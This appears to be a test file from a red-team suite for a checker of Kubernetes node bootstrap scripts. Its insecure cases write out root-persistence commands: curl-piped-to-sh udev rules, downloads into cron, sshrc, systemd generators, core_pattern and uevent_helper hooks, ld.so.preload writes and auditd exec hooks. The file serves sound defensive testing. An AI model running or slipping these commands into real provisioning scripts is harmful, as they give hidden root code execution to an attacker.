        "L6e xargs -I{} ln -s into profile.d",
        devNodeScript(n("l6e"), [DL, "echo /opt/ops.sh | xargs -I{} ln -s {} /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "L7 python3 os.symlink",
        devNodeScript(n("l7"), [DL, `python3 -c "import os; os.symlink('/opt/ops.sh', '/etc/profile.d/ops.sh')"`]),
    ),
    // tmpfiles.d(5) specifiers: "%E ... /etc/ for the system manager".
    devNodeCase(
        "L8 tmpfiles L+ %E/profile.d/ops.sh",
        devNodeScript(n("l8"), [
            DL,
            ...file("/etc/tmpfiles.d/ops.conf", ["L+ %E/profile.d/ops.sh - - - - /opt/ops.sh"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    // tmpfiles.d(5): "!" lines "are only safe to execute during boot" (applied by systemd-tmpfiles-setup at boot).
    devNodeCase(
        "L9 tmpfiles L+! (boot-only) line",
        devNodeScript(n("l9"), [
            DL,
            ...file("/etc/tmpfiles.d/ops.conf", ["L+! /etc/profile.d/ops.sh - - - - /opt/ops.sh"]),
        ]),
    ),
    // tmpfiles.d(5): "~" modifier: the argument "is base64 decoded".
    devNodeCase(
        "L10 tmpfiles f~ base64 content /etc/ld.so.preload",
        devNodeScript(n("l10"), [
            SO,
            ...file("/etc/tmpfiles.d/ops.conf", ["f~ /etc/ld.so.preload 0644 root root - L29wdC94LnNvCg=="]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "L11b tmpfiles w core_pattern |/data/hook",
        devNodeScript(n("l11b"), [
            ...file("/etc/tmpfiles.d/ops.conf", ["w /proc/sys/kernel/core_pattern - - - - |/data/hook %p"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "L12 ln -s at a dir then cp into it",
        devNodeScript(n("l12"), [DL, "ln -s /etc/profile.d /tmp/p", "cp /opt/ops.sh /tmp/p/ops.sh"]),
    ),
    devNodeCase(
        "L13 ln -s a dir of downloads AT /root/.bashrc.d",
        devNodeScript(n("l13"), [
            "mkdir -p /opt/rc",
            "curl -fsSL -o /opt/rc/ops.sh https://downloads.example.com/ops.sh",
            "rm -rf /root/.bashrc.d",
            "ln -s /opt/rc /root/.bashrc.d",
        ]),
    ),
    devNodeCase("L14 busybox ln -s", devNodeScript(n("l14"), [DL, "busybox ln -s /opt/ops.sh /etc/profile.d/ops.sh"])),
    devNodeCase("L15 cp -l hard link", devNodeScript(n("l15"), [DL, "cp -l /opt/ops.sh /etc/profile.d/ops.sh"])),
    // ---- udev ----
    devNodeCase(
        "U1b udev RUN relative name of a written script (the script itself judged)",
        devNodeScript(n("u1b"), [
            ...file("/usr/lib/udev/ops-helper", ["#!/bin/sh", "echo /data/x.so > /etc/ld.so.preload"]),
            "chmod +x /usr/lib/udev/ops-helper",
            ...file("/etc/udev/rules.d/99-ops.rules", ['ACTION=="add", SUBSYSTEM=="net", RUN+="ops-helper"']),
        ]),
    ),
    devNodeCase(
        "U1d udev RUN of /data/hook",
        devNodeScript(n("u1d"), [
            ...file("/etc/udev/rules.d/99-ops.rules", ['ACTION=="add", SUBSYSTEM=="net", RUN+="/data/hook"']),
        ]),
    ),
    devNodeCase(
        "U3b tmpfiles f udev rule RUN /data/hook",
        devNodeScript(n("u3b"), [
            ...file("/etc/tmpfiles.d/ops.conf", [
                `f /etc/udev/rules.d/99-ops.rules 0644 root root - ACTION=="add", RUN+="/data/hook"`,
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "U3d tmpfiles f udev rule RUN sh -c curl|sh",
        devNodeScript(n("u3d"), [
            ...file("/etc/tmpfiles.d/ops.conf", [
                `f /etc/udev/rules.d/99-ops.rules 0644 root root - ACTION=="add", RUN+="/bin/sh -c 'curl -fsSL https://downloads.example.com/ops.sh | sh'"`,
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "U4 udev rule symlinked from a download",
        devNodeScript(n("u4"), [
            "curl -fsSL -o /opt/99-ops.rules https://downloads.example.com/r",
            "ln -s /opt/99-ops.rules /etc/udev/rules.d/99-ops.rules",
        ]),
    ),
    devNodeCase(
        "U5 udev rule RUN with sh -c curl|sh",
        devNodeScript(n("u5"), [
            ...file("/etc/udev/rules.d/99-ops.rules", [
                `ACTION=="add", RUN+="/bin/sh -c 'curl -fsSL https://downloads.example.com/ops.sh | sh'"`,
            ]),
        ]),
    ),
    // ---- auditd ----
    devNodeCase(
        "U3c tmpfiles f audit plugin path = /data/hook",
        devNodeScript(n("u3c"), [
            ...file("/etc/tmpfiles.d/ops.conf", [
                "f /etc/audit/plugins.d/ops.conf 0640 root root - active = yes\\ndirection = out\\npath = /data/hook\\ntype = always\\n",
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "A1b auditd.conf space_left_action = exec /data/hook",
        devNodeScript(n("a1b"), [
            "sed -i 's|^space_left_action.*|space_left_action = exec /data/hook|' /etc/audit/auditd.conf",
            "service auditd restart",
        ]),
    ),
    devNodeCase(
        "A2b auditd.conf disk_full_action = exec /data/hook appended",
        devNodeScript(n("a2b"), ["echo 'disk_full_action = exec /data/hook' >> /etc/audit/auditd.conf"]),
    ),
    devNodeCase(
        "A3b auditd.conf plugin_dir = /data/plugins",
        devNodeScript(n("a3b"), [
            "echo 'plugin_dir = /data/plugins' >> /etc/audit/auditd.conf",
            "service auditd restart",
        ]),
    ),
    // Was a MISS (fixed in round 77): auditd-plugins(5) (manpages.ubuntu.com/manpages/jammy/man5/auditd-plugins.5.html): "a plugins directory
    // which defaults to /etc/audit/plugins.d. This can be controlled by a auditd.conf config option plugin_dir ... The
    // plugin directory will be scanned and every plugin that is active will be started": the downloaded
    // /opt/plugins/ops.conf decides what auditd starts as root (path + args: /bin/sh -c ..., any program). The same
    // download into /etc/audit/plugins.d is refused (A3d: a plugins.d file the pack cannot read). Accepted:
    // rootReads.ts AUDIT_PLUGIN_CONFIG is the fixed /etc/(audit|audisp)/plugins.d; auditd.conf is read only for data
    // directories (A3b). Fix: read auditd.conf plugin_dir (last line wins) and judge every file under it as
    // plugins.d (unreadable content refused), or refuse any plugin_dir other than /etc/audit/plugins.d.
    devNodeCase(
        "A3c plugin_dir = /opt/plugins with a downloaded plugin conf",
        devNodeScript(n("a3c"), [
            "mkdir -p /opt/plugins",
            "curl -fsSL -o /opt/plugins/ops.conf https://downloads.example.com/ops.conf",
            "echo 'plugin_dir = /opt/plugins' >> /etc/audit/auditd.conf",
            "service auditd restart",
        ]),
    ),
    // Round 77 neighbours of A3c (rootReads.ts auditdPluginDirectory: plugin_dir read as a link to plugins.d).
    devNodeCase(
        "A3e plugin_dir = /opt/plugins, then a downloaded conf there (written after)",
        devNodeScript(n("a3e"), [
            "echo 'plugin_dir = /opt/plugins' >> /etc/audit/auditd.conf",
            "mkdir -p /opt/plugins",
            "curl -fsSL -o /opt/plugins/ops.conf https://downloads.example.com/ops.conf",
        ]),
    ),
    devNodeCase(
        "A3f plugin_dir = $(cat /run/pd) (a directory the pack cannot know)",
        devNodeScript(n("a3f"), ['echo "plugin_dir = $(cat /run/pd)" >> /etc/audit/auditd.conf']),
    ),
    devNodeCase(
        "A3g sed -i plugin_dir = /opt/plugins with a downloaded conf",
        devNodeScript(n("a3g"), [
            "curl -fsSL -o /opt/plugins/ops.conf https://downloads.example.com/ops.conf",
            "sed -i 's|^plugin_dir.*|plugin_dir = /opt/plugins|' /etc/audit/auditd.conf",
        ]),
    ),
    devNodeCase(
        "A3h plugin_dir = /opt/plugins with an unreadable plugin line",
        devNodeScript(n("a3h"), [
            "mkdir -p /opt/plugins",
            "echo 'exec = /bin/sh' > /opt/plugins/ops.conf",
            "echo 'plugin_dir = /opt/plugins' >> /etc/audit/auditd.conf",
        ]),
    ),
    devNodeCase(
        "A3d downloaded conf into /etc/audit/plugins.d (control for A3c)",
        devNodeScript(n("a3d"), ["curl -fsSL -o /etc/audit/plugins.d/ops.conf https://downloads.example.com/ops.conf"]),
    ),
    devNodeCase(
        "A4 audit plugin conf symlinked from a download",
        devNodeScript(n("a4"), [
            "curl -fsSL -o /opt/ops.conf https://downloads.example.com/c",
            "ln -s /opt/ops.conf /etc/audit/plugins.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "A5b printf | tee plugin path = /data/hook",
        devNodeScript(n("a5b"), [
            "printf 'active = yes\\ndirection = out\\npath = /data/hook\\ntype = always\\n' | tee /etc/audit/plugins.d/ops.conf",
        ]),
    ),
    // ---- other root-run places ----
    devNodeCase(
        "O1 systemd system-generators",
        devNodeScript(n("o1"), [
            "mkdir -p /etc/systemd/system-generators",
            "curl -fsSL -o /etc/systemd/system-generators/ops https://downloads.example.com/ops.sh",
            "chmod +x /etc/systemd/system-generators/ops",
        ]),
    ),
    devNodeCase(
        "O2 systemd system-shutdown hook",
        devNodeScript(n("o2"), [
            "curl -fsSL -o /usr/lib/systemd/system-shutdown/ops https://downloads.example.com/ops.sh",
            "chmod +x /usr/lib/systemd/system-shutdown/ops",
        ]),
    ),
    devNodeCase(
        "O3b ln -s /data/hook into dispatcher.d",
        devNodeScript(n("o3b"), ["ln -s /data/hook /etc/NetworkManager/dispatcher.d/50-ops"]),
    ),
    devNodeCase(
        "O4 /etc/ssh/sshrc",
        devNodeScript(n("o4"), ["curl -fsSL -o /etc/ssh/sshrc https://downloads.example.com/ops.sh"]),
    ),
    devNodeCase(
        "O5 /root/.ssh/rc",
        devNodeScript(n("o5"), [
            "mkdir -p /root/.ssh",
            "curl -fsSL -o /root/.ssh/rc https://downloads.example.com/ops.sh",
        ]),
    ),
    devNodeCase(
        "O6 kubelet image credential provider binary replaced by a download",
        devNodeScript(n("o6"), [
            "curl -fsSL -o /etc/eks/image-credential-provider/ecr-credential-provider https://downloads.example.com/ops.sh",
            "chmod +x /etc/eks/image-credential-provider/ecr-credential-provider",
        ]),
    ),
    devNodeCase(
        "O7 /etc/cron.hourly script",
        devNodeScript(n("o7"), [
            "curl -fsSL -o /etc/cron.hourly/ops https://downloads.example.com/ops.sh",
            "chmod +x /etc/cron.hourly/ops",
        ]),
    ),
    devNodeCase(
        "O8b cron.d BASH_ENV=/data/env.sh",
        devNodeScript(n("o8b"), [
            ...file("/etc/cron.d/ops", ["SHELL=/bin/bash", "BASH_ENV=/data/env.sh", "*/5 * * * * root /usr/bin/true"]),
        ]),
    ),
    devNodeCase(
        "O9b sysctl.d core_pattern |/data/hook",
        devNodeScript(n("o9b"), [
            ...file("/etc/sysctl.d/99-ops.conf", ["kernel.core_pattern = |/data/hook %p"]),
            "sysctl --system",
        ]),
    ),
    devNodeCase(
        "O10b uevent_helper /data/hook",
        devNodeScript(n("o10b"), ["echo /data/hook > /sys/kernel/uevent_helper"]),
    ),
    devNodeCase(
        "O12 containerd config.toml runtime BinaryName edited to a download",
        devNodeScript(n("o12"), [
            DL,
            "chmod +x /opt/ops.sh",
            "sed -i 's|BinaryName = .*|BinaryName = \"/opt/ops.sh\"|' /etc/containerd/config.toml",
        ]),
    ),
    devNodeCase(
        "O14 system-environment-generators",
        devNodeScript(n("o14"), [
            "mkdir -p /etc/systemd/system-environment-generators",
            "curl -fsSL -o /etc/systemd/system-environment-generators/ops https://downloads.example.com/ops.sh",
            "chmod +x /etc/systemd/system-environment-generators/ops",
        ]),
    ),
];

const secure: NodeCase[] = [
    // Round 78 (the C13 fix's secure side): bash manual "Lists of Commands": in `A && cd D && B`, B runs only if cd D
    // succeeded, and `cd D || exit` goes on only in D; "The Set Builtin" -e: a failing plain cd ends the script.
    devNodeCase(
        "S-cd1-fix78 cd /opt/ops || exit 1; write (only in /opt/ops)",
        devNodeScript(n("scd1"), [
            SO,
            "mkdir -p /opt/ops",
            "cd /etc",
            "cd /opt/ops || exit 1",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "S-cd2-fix78 set -e; cd /opt/ops; write",
        devNodeScript(n("scd2"), [
            SO,
            "set -e",
            "mkdir -p /opt/ops",
            "cd /etc",
            "cd /opt/ops",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "S-cd3-fix78 mkdir -p /opt/x && cd /opt/x && curl -o f URL",
        devNodeScript(n("scd3"), [
            "cd /etc",
            "mkdir -p /opt/x && cd /opt/x && curl -fsSL -o ld.so.preload https://downloads.example.com/f",
        ]),
    ),
    // bash(1) "Tilde Expansion": "If none of the characters in the tilde-prefix are quoted": in ~root"/.bashrc" the
    // prefix runs to the first UNQUOTED slash, so it holds quoted characters: no expansion, a literal ./~root/.bashrc.
    devNodeCase(
        'S1 ~root"/.bashrc" partly quoted prefix is literal (cwd /tmp)',
        devNodeScript(n("s1"), [SO, "mkdir -p '/tmp/~root'", "cd /tmp", `echo '${PRE}' >> ~root"/.bashrc"`]),
    ),
    // Was a MISS (fixed in round 77) (secure): bash manual "Lists of Commands": "If a command is terminated by the control operator '&', the
    // shell executes the command asynchronously in a subshell": the background cd moves nothing; the write lands in
    // /tmp/ld.so.preload, which nothing reads. Refused: the reader runs `cd /etc &` in the current context (rootReads.ts
    // changeDirectory on ctx). Fix: an async (&) list element, like ( ), runs on a copy of the context.
    devNodeCase(
        "S2 cd /etc & wait: background subshell, cwd stays /tmp",
        devNodeScript(n("s2"), [SO, "cd /tmp", "cd /etc & wait", "echo /opt/x.so > ld.so.preload"]),
    ),
    // Was a MISS (fixed in round 77) (secure): bash manual "Coprocesses": "The coprocess is executed asynchronously in a subshell". Refused as
    // S2. Fix: as S2 (coproc bodies on a copy of the context).
    devNodeCase(
        "S3 coproc cd /etc",
        devNodeScript(n("s3"), [SO, "cd /tmp", "coproc cd /etc", "wait", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "S2b cd /etc || exit 1; cd /tmp (an exit branch leaves the directory known)",
        devNodeScript(n("s2b"), [SO, "cd /etc || exit 1", "cd /tmp", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "S2c ( cd /etc || cd /tmp ) leaves the outer cwd /tmp",
        devNodeScript(n("s2c"), [SO, "cd /tmp", "( cd /etc || cd /tmp )", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "S2d { cd /etc; } & wait: a background group moves nothing",
        devNodeScript(n("s2d"), [SO, "cd /tmp", "{ cd /etc; } & wait", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "S4b cd /etc; PWD=/tmp; > ~+/ld.so.preload (~+ is the PWD variable)",
        devNodeScript(n("s4b"), [SO, "cd /etc", "PWD=/tmp", "echo /opt/x.so > ~+/ld.so.preload"]),
    ),
    // bash(1): assigning PWD does not change the working directory (only cd does).
    devNodeCase(
        "S4 PWD=/etc does not move the cwd",
        devNodeScript(n("s4"), [SO, "cd /tmp", "PWD=/etc", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "S5 pushd /tmp; pushd /etc; pushd (swap back to /tmp)",
        devNodeScript(n("s5"), [
            SO,
            "pushd /tmp >/dev/null",
            "pushd /etc >/dev/null",
            "pushd >/dev/null",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    // Refused BY DESIGN (not counted): bash manual "Aliases": "Aliases are not expanded when the shell is not
    // interactive, unless the expand_aliases shell option is set": `go` is not found, the cwd stays /tmp. rootReads.ts
    // reads an alias "whether or not the shell expands it" (fail closed); left alone.
    devNodeCase(
        "S6 alias without expand_aliases is not expanded (go: not found)",
        devNodeScript(n("s6"), [SO, "cd /tmp", "alias go='cd /etc'", "go || true", "echo /opt/x.so > ld.so.preload"]),
        /./,
        true,
    ),
    // bash(1) "Tilde Expansion" applies to assignment words only when the text before = is a valid name:
    // --target-directory=~root/... is not one, so cp gets the literal ./~root/.bashrc.d under /tmp.
    devNodeCase(
        "S7 --target-directory=~root is not an assignment word (cp to literal ./~root)",
        devNodeScript(n("s7"), [
            DL,
            "cd /tmp",
            "mkdir -p '/tmp/~root/.bashrc.d'",
            "cp /opt/ops.sh --target-directory=~root/.bashrc.d",
        ]),
    ),
    devNodeCase(
        "S8 udev rule RUN of an image program",
        devNodeScript(n("s8"), [
            ...file("/etc/udev/rules.d/99-ops.rules", [
                'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/sbin/ethtool -K $name tso off"',
            ]),
        ]),
    ),
    devNodeCase(
        "S9 audit plugin af_unix (stock)",
        devNodeScript(n("s9"), [
            ...file("/etc/audit/plugins.d/af_unix.conf", [
                "active = yes",
                "direction = out",
                "path = /sbin/audisp-af_unix",
                "type = always",
                "args = 0640 /var/run/audispd_events",
                "format = string",
            ]),
        ]),
    ),
    devNodeCase(
        "S10 auditd.conf space_left_action = syslog",
        devNodeScript(n("s10"), ["sed -i 's|^space_left_action.*|space_left_action = syslog|' /etc/audit/auditd.conf"]),
    ),
    devNodeCase(
        "S11 ( cd /etc ) then write in /tmp",
        devNodeScript(n("s11"), [SO, "cd /tmp", "( cd /etc )", "echo /opt/x.so > ld.so.preload"]),
    ),
    // Was a MISS (fixed in round 77) (secure): the twin of P1: R=/tmp/x sets F (bash manual "Shell Parameters", namerefs), so "$F" is /tmp/x.
    // Refused: the reader keeps F=/etc/ld.so.preload (rootReads.ts assignment branch sets R). Fix: as P1.
    devNodeCase(
        "S12 declare -n then R assigned, F written in /tmp",
        devNodeScript(n("s12"), [SO, "F=/etc/ld.so.preload", "declare -n R=F", "R=/tmp/x", 'echo /opt/x.so > "$F"']),
    ),
    devNodeCase(
        "S12b declare -n R=F; read -r R <<< /tmp/x sets F",
        devNodeScript(n("s12b"), [
            SO,
            "F=/etc/ld.so.preload",
            "declare -n R=F",
            "read -r R <<< /tmp/x",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "S12c local -n in a function returns /tmp/x by reference",
        devNodeScript(n("s12c"), [
            SO,
            "F=/etc/ld.so.preload",
            "setp() { local -n r=$1; r=/tmp/x; }",
            "setp F",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "S13 tmpfiles L+ to an image file",
        devNodeScript(n("s13"), [
            ...file("/etc/tmpfiles.d/ops.conf", ["L+ /etc/localtime - - - - /usr/share/zoneinfo/UTC"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "S14 sysctl.d core_pattern to a file name",
        devNodeScript(n("s14"), [
            ...file("/etc/sysctl.d/99-ops.conf", ["kernel.core_pattern = /var/crash/core.%e.%p"]),
            "sysctl --system",
        ]),
    ),
    devNodeCase(
        "S15 trap with an image command",
        devNodeScript(n("s15"), ["trap 'rm -f /tmp/scratch' EXIT", "echo ok > /tmp/scratch"]),
    ),
    devNodeCase(
        "S16 cd -P /etc/../tmp",
        devNodeScript(n("s16"), [SO, "cd -P /etc/../tmp", "echo /opt/x.so > ld.so.preload"]),
    ),
    // Was a MISS (fixed in round 77) (secure): the twin of P16: setf's F=/tmp/x is the global F (bash manual "Shell Functions"): "$F" is /tmp/x.
    // Refused: the body's assignment is dropped (rootReads.ts functions branch). Fix: as C4.
    devNodeCase(
        "S17 function sets F=/tmp/x over /etc/ld.so.preload",
        devNodeScript(n("s17"), [SO, "F=/etc/ld.so.preload", "setf() { F=/tmp/x; }", "setf", 'echo /opt/x.so > "$F"']),
    ),
    // Was a MISS (fixed in round 77) (secure): the twin of C4: gotmp's cd /tmp moves the script out of /etc. Refused as C4. Fix: as C4.
    devNodeCase(
        "S18 function cd /tmp out of /etc",
        devNodeScript(n("s18"), [SO, "cd /etc", "gotmp() { cd /tmp; }", "gotmp", "echo /opt/x.so > ld.so.preload"]),
    ),
    // Round 77 neighbours of the function-scope fix.
    devNodeCase(
        "S17b function's declare F (local) leaves the caller's F=/tmp/x",
        devNodeScript(n("s17b"), [
            SO,
            "F=/tmp/x",
            "setf() { declare F=/etc/ld.so.preload; }",
            "setf",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "S17c function's local F over the caller's /tmp/x",
        devNodeScript(n("s17c"), [
            SO,
            "F=/tmp/x",
            "setf() { local F=/etc/ld.so.preload; }",
            "setf",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "S18b function called in a subshell: ( go ) leaves the cwd in /tmp",
        devNodeScript(n("s18b"), [SO, "cd /tmp", "go() { cd /etc; }", "( go )", "echo /opt/x.so > ld.so.preload"]),
    ),
    // ---- accepted by design: DECIDED round 69 (README: "a downloaded program run as root" is the operator's own;
    // round 76 audit-plugin-download). Each names a program the script downloaded; pinned, not misses. ----
    // auditd.conf(5): space_left_action/disk_full_action "exec /path-to-script will execute the script".
    devNodeCase(
        "D1 auditd.conf space_left_action = exec of a downloaded script",
        devNodeScript(n("d1"), [
            DL,
            "chmod +x /opt/ops.sh",
            "sed -i 's|^space_left_action.*|space_left_action = exec /opt/ops.sh|' /etc/audit/auditd.conf",
            "service auditd restart",
        ]),
    ),
    devNodeCase(
        "D2 auditd.conf disk_full_action exec appended",
        devNodeScript(n("d2"), [
            DL,
            "chmod +x /opt/ops.sh",
            "echo 'disk_full_action = exec /opt/ops.sh' >> /etc/audit/auditd.conf",
        ]),
    ),
    devNodeCase(
        "D3 auditd.conf plugin_dir = /opt/plugins, a written plugin naming a download",
        devNodeScript(n("d3"), [
            DL,
            "chmod +x /opt/ops.sh",
            ...file("/opt/plugins/ops.conf", [
                "active = yes",
                "direction = out",
                "path = /opt/ops.sh",
                "type = always",
                "format = string",
            ]),
            "echo 'plugin_dir = /opt/plugins' >> /etc/audit/auditd.conf",
        ]),
    ),
    devNodeCase(
        "D4 audit plugin via printf | tee naming a download",
        devNodeScript(n("d4"), [
            DL,
            "chmod +x /opt/ops.sh",
            "printf 'active = yes\\ndirection = out\\npath = /opt/ops.sh\\ntype = always\\n' | tee /etc/audit/plugins.d/ops.conf",
        ]),
    ),
    // udev(7) RUN: "If no absolute path is given, the program is expected to live in /usr/lib/udev".
    devNodeCase(
        "D5 udev RUN relative name of a download in /usr/lib/udev",
        devNodeScript(n("d5"), [
            "curl -fsSL -o /usr/lib/udev/ops-helper https://downloads.example.com/ops.sh",
            "chmod +x /usr/lib/udev/ops-helper",
            ...file("/etc/udev/rules.d/99-ops.rules", ['ACTION=="add", SUBSYSTEM=="net", RUN+="ops-helper"']),
        ]),
    ),
    devNodeCase(
        "D6 udev PROGRAM relative name in /lib/udev",
        devNodeScript(n("d6"), [
            "curl -fsSL -o /lib/udev/ops-id https://downloads.example.com/ops.sh",
            "chmod +x /lib/udev/ops-id",
            ...file("/etc/udev/rules.d/99-ops.rules", ['ACTION=="add", PROGRAM="ops-id %k", RESULT=="x"']),
        ]),
    ),
    devNodeCase(
        "D7 udev IMPORT{program} relative",
        devNodeScript(n("d7"), [
            "curl -fsSL -o /usr/lib/udev/ops-imp https://downloads.example.com/ops.sh",
            "chmod +x /usr/lib/udev/ops-imp",
            ...file("/etc/udev/rules.d/99-ops.rules", ['ACTION=="add", IMPORT{program}="ops-imp"']),
        ]),
    ),
    devNodeCase(
        "D8 udev rules file via tmpfiles f, RUN of a download",
        devNodeScript(n("d8"), [
            DL,
            "chmod +x /opt/ops.sh",
            ...file("/etc/tmpfiles.d/ops.conf", [
                'f /etc/udev/rules.d/99-ops.rules 0644 root root - ACTION=="add", RUN+="/opt/ops.sh"',
            ]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    // core(5): a core_pattern starting with | runs the program as root; kernel.core_pattern in sysctl.d.
    devNodeCase(
        "D9 tmpfiles w core_pattern |download",
        devNodeScript(n("d9"), [
            DL,
            "chmod +x /opt/ops.sh",
            ...file("/etc/tmpfiles.d/ops.conf", ["w /proc/sys/kernel/core_pattern - - - - |/opt/ops.sh"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "D10 sysctl.d core_pattern |download",
        devNodeScript(n("d10"), [
            DL,
            "chmod +x /opt/ops.sh",
            ...file("/etc/sysctl.d/99-ops.conf", ["kernel.core_pattern = |/opt/ops.sh %p"]),
            "sysctl --system",
        ]),
    ),
    devNodeCase(
        "D11 uevent_helper download",
        devNodeScript(n("d11"), [DL, "chmod +x /opt/ops.sh", "echo /opt/ops.sh > /sys/kernel/uevent_helper"]),
    ),
    devNodeCase(
        "D12 cron.d BASH_ENV of a download",
        devNodeScript(n("d12"), [
            DL,
            ...file("/etc/cron.d/ops", ["SHELL=/bin/bash", "BASH_ENV=/opt/ops.sh", "*/5 * * * * root /usr/bin/true"]),
        ]),
    ),
    // Hooks of daemons AL2023 EKS nodes do not run (systemd-networkd, no NetworkManager/dhclient) or run only at kernel
    // package installs: a downloaded program there is the same trusted download.
    devNodeCase(
        "D13 NetworkManager dispatcher.d download",
        devNodeScript(n("d13"), [
            "curl -fsSL -o /etc/NetworkManager/dispatcher.d/50-ops https://downloads.example.com/ops.sh",
            "chmod +x /etc/NetworkManager/dispatcher.d/50-ops",
        ]),
    ),
    devNodeCase(
        "D14 dhclient-exit-hooks.d download",
        devNodeScript(n("d14"), [
            "mkdir -p /etc/dhcp/dhclient-exit-hooks.d",
            "curl -fsSL -o /etc/dhcp/dhclient-exit-hooks.d/ops https://downloads.example.com/ops.sh",
        ]),
    ),
    devNodeCase(
        "D15 /etc/kernel/postinst.d download",
        devNodeScript(n("d15"), [
            "mkdir -p /etc/kernel/postinst.d",
            "curl -fsSL -o /etc/kernel/postinst.d/ops https://downloads.example.com/ops.sh",
            "chmod +x /etc/kernel/postinst.d/ops",
        ]),
    ),
    // Round 77 neighbours of L6 (findExecRuns): find -exec cp of a file the script wrote whole (its text known and
    // harmless) into /etc/profile.d, and -exec of an inert command on a download.
    devNodeCase(
        "S20 find /opt/app -exec cp {} /etc/profile.d/ (a profile script the script wrote)",
        devNodeScript(n("s20"), [
            "mkdir -p /opt/app",
            "echo 'export EDITOR=vi' > /opt/app/ed.sh",
            "find /opt/app -name '*.sh' -exec cp {} /etc/profile.d/ \\;",
        ]),
    ),
    devNodeCase(
        "S21 find /opt -exec chmod 0755 {} + (an inert command on a download)",
        devNodeScript(n("s21"), [DL, "find /opt -name '*.sh' -exec chmod 0755 {} +"]),
    ),
    // find -exec rm of what it finds under /tmp removes nothing the script wrote elsewhere: /opt/setup.sh stays known.
    devNodeCase(
        "S25 find /tmp -exec rm -f {} +, then bash a script the script wrote",
        devNodeScript(n("s25"), [
            "echo 'echo ready' > /opt/setup.sh",
            "find /tmp -name '*.tmp' -exec rm -f {} +",
            "bash /opt/setup.sh",
        ]),
    ),
    // Round 77 neighbour of T4: root's new home whose .bashrc the script wrote whole, harmless.
    devNodeCase(
        "S22 usermod -d /opt/h root with a written harmless .bashrc",
        devNodeScript(n("s22"), [
            "mkdir -p /opt/h",
            "echo 'export EDITOR=vi' > /opt/h/.bashrc",
            "usermod -d /opt/h root",
        ]),
    ),
    // Round 77 neighbours of A3c: plugin_dir at its default, and at a literal directory holding nothing the script wrote.
    devNodeCase(
        "S23 plugin_dir = /etc/audit/plugins.d (the default)",
        devNodeScript(n("s23"), ["echo 'plugin_dir = /etc/audit/plugins.d' >> /etc/audit/auditd.conf"]),
    ),
    devNodeCase(
        "S24 plugin_dir = /opt/plugins/ (empty, literal)",
        devNodeScript(n("s24"), [
            "mkdir -p /opt/plugins",
            "echo 'plugin_dir = /opt/plugins/' >> /etc/audit/auditd.conf",
        ]),
    ),
    // EC2 API ModifyInstanceMetadataOptions needs ec2:ModifyInstanceMetadataOptions, which the node role's AWS managed
    // policies (AmazonEKSWorkerNodePolicy, AmazonEC2ContainerRegistryReadOnly, AmazonEKS_CNI_Policy) do not grant: the
    // call is denied and the hop limit stays 1.
    devNodeCase(
        "D16 IMDS hop limit 2 by aws ec2 modify-instance-metadata-options (denied to the node role)",
        devNodeScript(n("d16"), [
            'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
            'ID=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id)',
            'aws ec2 modify-instance-metadata-options --instance-id "$ID" --http-put-response-hop-limit 2 --http-endpoint enabled',
        ]),
    ),
];

describeNodeCases(
    "red team 77: node (function scope, namerefs, || cds, ~+ from PWD, find -exec copiers, root's home, audit plugin_dir)",
    insecure,
    secure,
);
